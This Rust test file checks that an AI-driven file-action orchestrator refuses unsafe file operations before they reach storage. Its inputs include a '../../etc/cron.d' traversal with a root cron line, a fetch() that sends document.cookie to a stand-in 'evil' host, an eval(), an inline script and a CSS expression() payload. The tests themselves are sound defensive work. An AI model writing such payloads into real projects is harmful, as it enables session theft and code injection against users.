// Copyright (c) 2026 100monkeys.ai
// SPDX-License-Identifier: AGPL-3.0

use actionflow_core::application::context::OperationContext;
use actionflow_core::application::orchestrator::FileOperationOrchestrator;
use actionflow_core::domain::action::{ActionType, AiAction};
use actionflow_core::domain::errors::ErrorCode;
use actionflow_core::domain::events::{EventPayload, AI_ACTION_PROCESSED, FILE_CREATED, FILE_UPDATED};
use actionflow_core::domain::workspace::{FileOperationResult, FileService, FileServiceError};
use actionflow_core::infrastructure::editor::InMemoryEditorService;
use async_trait::async_trait;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

/// Storage mock that answers `file_exists` with a fixed value and counts
/// every mutating call.
struct CountingFileService {
    exists: bool,
    creates: AtomicUsize,
    updates: AtomicUsize,
    deletes: AtomicUsize,
}

impl CountingFileService {
    fn new(exists: bool) -> Self {
        Self {
            exists,
            creates: AtomicUsize::new(0),
            updates: AtomicUsize::new(0),
            deletes: AtomicUsize::new(0),
        }
    }
}

#[async_trait]
impl FileService for CountingFileService {
    async fn create_file(&self, _ws: &str, path: &str, _content: &str) -> Result<FileOperationResult, FileServiceError> {
        self.creates.fetch_add(1, Ordering::SeqCst);
        Ok(FileOperationResult::ok(ActionType::Create, path))
    }

    async fn update_file(&self, _ws: &str, path: &str, _content: &str) -> Result<FileOperationResult, FileServiceError> {
        self.updates.fetch_add(1, Ordering::SeqCst);
        Ok(FileOperationResult::ok(ActionType::Edit, path))
    }

    async fn delete_file(&self, _ws: &str, path: &str) -> Result<FileOperationResult, FileServiceError> {
        self.deletes.fetch_add(1, Ordering::SeqCst);
        Ok(FileOperationResult::ok(ActionType::Delete, path))
    }

    async fn file_exists(&self, _ws: &str, _path: &str) -> Result<bool, FileServiceError> {
        Ok(self.exists)
    }

    async fn list_files(&self, _ws: &str) -> Result<Vec<String>, FileServiceError> {
        Ok(Vec::new())
    }

    async fn get_file_content(&self, _ws: &str, path: &str) -> Result<String, FileServiceError> {
        Err(FileServiceError::NotFound(path.to_string()))
    }
}

fn context_with(files: Arc<CountingFileService>) -> OperationContext {
    OperationContext::new("ws-1", files, Arc::new(InMemoryEditorService::new()))
}

#[tokio::test]
async fn test_create_on_existing_path_never_writes() {
    let files = Arc::new(CountingFileService::new(true));
    let ctx = context_with(files.clone());
    let orchestrator = FileOperationOrchestrator::default();

    let err = orchestrator
        .execute_action(&AiAction::create("src/index.ts", "export {}"), &ctx, None)
        .await
        .unwrap_err();

    assert_eq!(err.message, "File already exists: src/index.ts");
    assert_eq!(files.creates.load(Ordering::SeqCst), 0);
    assert!(ctx.event_bus.history(Some(FILE_CREATED)).is_empty());
}

#[tokio::test]
async fn test_edit_on_missing_path_never_writes() {
    let files = Arc::new(CountingFileService::new(false));
    let ctx = context_with(files.clone());
    let orchestrator = FileOperationOrchestrator::default();

    let err = orchestrator
        .execute_action(&AiAction::edit("src/missing.ts", "export {}"), &ctx, None)
        .await
        .unwrap_err();

    assert_eq!(err.code, ErrorCode::FileNotFound);
    assert_eq!(err.message, "File does not exist: src/missing.ts");
    assert_eq!(files.updates.load(Ordering::SeqCst), 0);
    assert!(ctx.event_bus.history(Some(FILE_UPDATED)).is_empty());
}

#[tokio::test]
async fn test_delete_on_missing_path_never_deletes() {
    let files = Arc::new(CountingFileService::new(false));
    let ctx = context_with(files.clone());

    FileOperationOrchestrator::default()
        .execute_action(&AiAction::delete("gone.txt"), &ctx, None)
        .await
        .unwrap_err();

    assert_eq!(files.deletes.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn test_traversal_is_rejected_before_storage() {
    let files = Arc::new(CountingFileService::new(false));
    let ctx = context_with(files.clone());

    let err = FileOperationOrchestrator::default()
        .execute_action(&AiAction::create("../../etc/cron.d/job", "* * * * * root id"), &ctx, None)
        .await
        .unwrap_err();

    assert_eq!(err.code, ErrorCode::PathTraversal);
    assert_eq!(files.creates.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn test_edit_without_previous_content_still_succeeds() {
    let files = Arc::new(CountingFileService::new(true));
    let ctx = context_with(files.clone());

    let result = FileOperationOrchestrator::default()
        .execute_action(&AiAction::edit("notes.md", "# notes"), &ctx, None)
        .await
        .unwrap();

    assert!(result.metadata.previous_content.is_none());
    assert_eq!(files.updates.load(Ordering::SeqCst), 1);
}

async fn assert_content_rejected(action: AiAction, expected: &str) {
    let files = Arc::new(CountingFileService::new(action.action_type == ActionType::Edit));
    let ctx = context_with(files.clone());

    let err = FileOperationOrchestrator::default()
        .execute_action(&action, &ctx, None)
        .await
        .unwrap_err();

    assert_eq!(err.code, ErrorCode::DangerousContent);
    assert!(err.message.contains(expected), "unexpected message: {}", err.message);
    assert_eq!(files.creates.load(Ordering::SeqCst), 0);
    assert_eq!(files.updates.load(Ordering::SeqCst), 0);
    assert!(ctx.event_bus.history(Some(FILE_CREATED)).is_empty());
    assert!(ctx.event_bus.history(Some(FILE_UPDATED)).is_empty());

    let processed = ctx.event_bus.history(Some(AI_ACTION_PROCESSED));
    assert_eq!(processed.len(), 1);
    match &processed[0].payload {
        EventPayload::AiActionProcessed { success, .. } => assert!(!success),
        other => panic!("unexpected payload {:?}", other),
    }
}

#[tokio::test]
async fn test_script_eval_is_rejected_before_storage() {
    assert_content_rejected(
        AiAction::create("src/app.js", "const v = eval(userInput);"),
        "eval()",
    )
    .await;
}

#[tokio::test]
async fn test_script_exfiltration_is_rejected_on_edit() {
    assert_content_rejected(
        AiAction::edit("src/api.ts", "fetch('https://evil/steal?c=' + document.cookie);"),
        "fetch()",
    )
    .await;
}

#[tokio::test]
async fn test_inline_script_tag_is_rejected_before_storage() {
    assert_content_rejected(
        AiAction::create("public/index.html", "<p>hi</p><script>alert(1)</script>"),
        "<script>",
    )
    .await;
}

#[tokio::test]
async fn test_css_expression_is_rejected_before_storage() {
    assert_content_rejected(
        AiAction::create("styles/site.css", "div { width: expression(alert(1)); }"),
        "expression()",
    )
    .await;
}
